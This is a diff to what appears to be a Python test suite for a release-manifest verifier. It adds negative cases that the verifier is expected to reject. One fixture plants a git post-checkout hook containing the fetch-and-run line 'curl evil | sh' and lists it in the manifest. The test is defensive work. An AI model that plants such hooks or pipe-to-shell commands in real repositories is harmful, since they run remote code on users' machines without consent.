@@ -319,7 +319,24 @@ def generation_dropped(release: Path) -> None:
     _write_manifest(release, manifest)
 
 
+def listed_outside_the_format(release: Path) -> None:
+    hook = release / ".git" / "hooks" / "post-checkout"
+    hook.parent.mkdir(parents=True)
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    manifest = _manifest(release)
+    manifest["files"][".git/hooks/post-checkout"] = hashlib.sha256(hook.read_bytes()).hexdigest()
+    _write_manifest(release, manifest)
+
+
+def crosscheck_yes(release: Path) -> None:
+    manifest = _manifest(release)
+    manifest["config"]["release"]["crosscheck"] = "yes"
+    _write_manifest(release, manifest)
+
+
 CASES = [
+    (listed_outside_the_format, "not a file of the release format"),
+    (crosscheck_yes, "config.release.crosscheck='yes': must be true or false"),
     # hostile round 8: verify read none of config.generation
     (_generation_edit(min_depth="fixpoint"), "decided below config.generation.min_depth='fixpoint'"),
     (_generation_edit(min_resistant_share=0.9), "fewer resistant decoys than config.generation"),
